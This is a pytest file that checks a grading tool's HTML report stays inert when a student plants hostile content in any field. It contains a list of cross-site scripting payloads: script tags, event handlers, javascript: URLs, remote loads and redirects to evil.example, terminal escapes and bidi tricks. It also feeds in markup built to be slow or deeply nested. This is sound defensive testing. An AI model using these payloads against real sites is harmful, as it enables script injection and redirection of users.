"""Hostile content: whatever a student writes anywhere, the report holds nothing that runs, loads or deceives."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from grader.feedback.view import CaseView, CellView, ErrorView, FailureView, Feedback
from grader.model.result import Frame, NamedSnapshot, Snapshot
from grader.model.text import Language, Text
from grader.model.verdict import Verdict
from grader.report import render_html

CheckInert = Callable[[str], list[Any]]
Make = Callable[..., Feedback]
MakeCase = Callable[..., CaseView]

PAYLOADS = (
    "<script>alert(1)</script>",
    "</style></title></pre></textarea><script src=http://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/t.gif' srcset='http://evil.example/2x.gif 2x'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a><a href=' java\tscript:alert(1)'>y</a><a href='//evil.example'>z</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'><base href='http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/x.css'><style>*{background:url(http://evil.example)}</style>",
    "<form action='http://evil.example'><input name=q><button formaction=x>go</button></form>",
    "<div style='position:fixed;inset:0;background:url(http://evil.example)' class='banner banner-good'>21/20</div>",
    "<p id=result name=points class=score-got>20</p><h1>Everything is right</h1></main></body></html>",
    "<video src='http://evil.example/v'></video><audio src=x></audio><template><script>alert(1)</script></template>",
    "[x](javascript:alert(1)) ![x](http://evil.example/i.png) ![y](data:image/svg+xml;base64,PHN2Zz4=)",
    "{{ 7 * 7 }} {% raw %} ${alert(1)} <!--><script>alert(1)</script>-->",
    "'\"><script>alert(1)</script>",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m \x1b[2J \x9b31m \x07\x00\x08",
    "abc\u202edcba\u2066hidden\u2069\u200f\u061c \ud800 \ufeff \u2028line",
)


def _outputs(payload: str) -> tuple[dict[str, Any], ...]:
    """The payload as every kind of output, and outputs that are no outputs."""
    kinds: list[Any] = [
        {"output_type": "stream", "name": "stdout", "text": payload},
        {"output_type": "stream", "name": payload, "text": [payload, 3, None]},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
        {"output_type": "error", "ename": payload, "evalue": 7},
        *(
            {"output_type": "display_data", "data": {mime: payload}, "metadata": {"image/png": {"alt": payload}}}
            for mime in ("text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "image/png")
        ),
        {"output_type": "display_data", "data": {"application/javascript": payload, "application/vnd.x": payload}},
        {"output_type": "execute_result", "data": payload},
        {"output_type": payload},
        {"output_type": ["stream"], "text": {"a": payload}},
        {},
    ]
    return tuple(kinds)


def _everywhere(payload: str, make_feedback: Make, make_case: MakeCase, language: Language) -> Feedback:
    """The payload in every field that a student has a hand in."""
    text = Text(en=payload, zh=payload)
    value = Snapshot(kind="object", type_name=payload, shape=(1,), dtype=payload, values=(payload,), text=payload)
    error = ErrorView(
        type_name=payload,
        message=payload,
        frames=(
            Frame(cell=0, line=1, function=payload, source=payload),
            Frame(cell=99, line=1, function=payload, source=payload),
        ),
        explanation=text,
    )
    failure = FailureView(cell=0, line=1, source=payload, message=text, error=error, binds=(payload,))
    case = make_case(
        1, Verdict.WRONG, title=text, message=text, hint=text, call=payload, printed=payload, detail=payload,
        error=error, got=value, expected=value, inputs=(NamedSnapshot(name=payload, value=value),),
    )  # fmt: skip
    cells = tuple(
        CellView(index=index, kind=kind, source=payload, status="partly", failures=(failure,) * (index == 0),
                 notices=(text,), outputs=_outputs(payload))
        for index, kind in enumerate(("code", "markdown", "raw"))
    )  # fmt: skip
    return make_feedback(
        case, language=language, cells=cells, student_id=payload, submission=payload, digest=payload,
        notices=(text,), environment={"python": payload},
    )  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_active_content_remains(
    payload: str, make_feedback: Make, make_case: MakeCase, check_inert: CheckInert
) -> None:
    """The payload may be read, but it does not become part of the page."""
    html = render_html(_everywhere(payload, make_feedback, make_case, Language.EN))

    check_inert(html)
    html.encode("utf-8")


def test_all_payloads_at_once_cannot_break_out_together(
    make_feedback: Make, make_case: MakeCase, check_inert: CheckInert
) -> None:
    """What one fragment opens another cannot close: each is balanced by itself."""
    nodes = check_inert(render_html(_everywhere("\n\n".join(PAYLOADS), make_feedback, make_case, Language.ZH)))

    assert [node.tag for node in nodes].count("h1") == 1
    assert [node.tag for node in nodes].count("main") == 1


def test_a_hidden_reversal_of_text_is_made_visible(make_feedback: Make) -> None:
    """A name with a right-to-left override shows the override instead of obeying it."""
    assert "ana⟨U+202E⟩gpj.exe" in render_html(make_feedback(student_id="ana\u202egpj.exe"))


@pytest.mark.parametrize("payload", ["[" * 30_000, "<div>" * 6_000, "> " * 10_000, "*a **b " * 4_000, "$a " * 9_000])
def test_markup_made_to_be_slow_or_deep_is_shown_all_the_same(
    payload: str, make_feedback: Make, check_inert: CheckInert
) -> None:
    """Deep nesting and endless emphasis cost no more than their length."""
    cells = (
        CellView(index=0, kind="markdown", source=payload, status="text"),
        CellView(index=1, kind="code", source=payload, status="ok", outputs=_outputs(payload)),
    )

    check_inert(render_html(make_feedback(cells=cells)))


def test_floods_of_cells_and_outputs_keep_the_report_small(make_feedback: Make) -> None:
    """Ten thousand cells with long outputs give a report of bounded size that says what it leaves out."""
    output = {"output_type": "stream", "name": "stdout", "text": "spam and eggs\n" * 20_000}
    cells = tuple(
        CellView(index=index, kind="code", source=f"print({index})", status="ok", outputs=(output,) * 60)
        for index in range(2_000)
    )

    html = render_html(make_feedback(cells=cells))

    assert len(html) < 8_000_000
    assert "1700 more cells are not shown." in html
    assert "10 more outputs are not shown." in html
    assert "characters left out" in html
